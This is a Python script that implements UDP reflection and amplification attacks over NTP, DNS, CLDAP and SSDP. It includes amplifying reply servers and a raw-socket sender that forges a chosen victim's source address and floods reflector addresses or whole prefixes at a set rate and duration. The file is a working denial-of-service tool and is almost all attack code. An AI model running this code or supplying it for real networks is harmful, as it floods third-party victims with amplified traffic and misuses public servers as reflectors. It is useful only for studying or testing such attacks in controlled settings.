#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""Servers of UDP that give long answers to short questions, and questions in the name of others.

usage: reflect.py answer PORT KIND
       reflect.py ask KIND VICTIM PORT RATE SECONDS REFLECTOR...

Kinds: ntp (the list of clients, mode 7), dns (a long TXT record), cldap, ssdp. `answer` answers on all addresses of the host; `ask` sends with
the source address VICTIM and random source ports. REFLECTOR may be a prefix: all its addresses.
"""

import ipaddress
import random
import socket
import struct
import sys
import time

DNS_NAME = b'\x04open\x07example\x00'
REQUESTS = {
    'ntp': (123, b'\x17\x00\x03\x2a' + bytes(4)),
    'dns': (53, b'\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01' + DNS_NAME + b'\x00\xff\x00\x01' + b'\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00'),
    'cldap': (389, bytes.fromhex('30250201016320040 00a01000a0100020100020100010100870b6f626a656374636c6173733000'.replace(' ', ''))),
    'ssdp': (1900, b'M-SEARCH * HTTP/1.1\r\nHost: 239.255.255.250:1900\r\nMan: "ssdp:discover"\r\nMX: 1\r\nST: ssdp:all\r\n\r\n'),
}


def answers(kind, request):
    """What a server says to a request."""
    if kind == 'ntp':
        return [bytes([0xd7, number & 0x7f, 3, 0x2a, 0, 6, 0, 72]) + bytes(72) * 6 for number in range(8)]
    if kind == 'dns':
        record = b'\xc0\x0c\x00\x10\x00\x01\x00\x00\x0e\x10' + struct.pack('!H', 256) + b'\xff' + b'v=spf1 ' * 36 + b'abc'
        end = request.index(b'\0', 12) + 5
        return [request[:2] + b'\x85\x80\x00\x01\x00\x05\x00\x00\x00\x00' + request[12:end] + record * 5]
    if kind == 'cldap':
        return [b'\x30\x84\x00\x00\x05\x00' + b'currentTime namingContexts supportedControl ' * 30]
    return [b'HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=120\r\nST: upnp:rootdevice\r\nUSN: uuid:%d\r\nEXT:\r\nSERVER: router\r\n'
            b'LOCATION: http://192.168.1.1:5431/igd.xml\r\n\r\n' % number for number in range(7)]


def answer(port, kind):
    """Answers from the address that was asked."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.IPPROTO_IP, 8, 1)  # IP_PKTINFO
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
    sock.bind(('0.0.0.0', port))
    while True:
        request, control, _, peer = sock.recvmsg(2048, 256)
        local = next((data[8:12] for level, number, data in control if (level, number) == (socket.IPPROTO_IP, 8)), bytes(4))
        for text in answers(kind, request):
            try:
                sock.sendmsg([text], [(socket.IPPROTO_IP, 8, struct.pack('@i', 0) + local + bytes(4))], 0, peer)
            except OSError:
                pass  # an ordinary thing for a server: the asker is gone


def ask(kind, victim, rate, seconds, reflectors):
    """Requests in the name of the victim."""
    rng = random.Random(f'{kind} {victim}')
    port, request = REQUESTS[kind]
    targets = [address for reflector in reflectors for address in ipaddress.ip_network(reflector)]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    begin = time.monotonic()
    for number in range(int(rate * seconds)):
        target = rng.choice(targets)
        udp = struct.pack('!HHHH', rng.randrange(1024, 65536), port, 8 + len(request), 0) + request
        header = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(udp), rng.getrandbits(16), 0, 60, 17, 0) + ipaddress.ip_address(victim).packed + target.packed
        raw.sendto(header + udp, (str(target), 0))
        ahead = begin + number / rate - time.monotonic()
        if ahead > 0.002:
            time.sleep(ahead)


if __name__ == '__main__':
    if sys.argv[1] == 'answer':
        answer(int(sys.argv[2]), sys.argv[3])
    else:
        ask(sys.argv[2], sys.argv[3], float(sys.argv[4]), float(sys.argv[5]), sys.argv[6:])
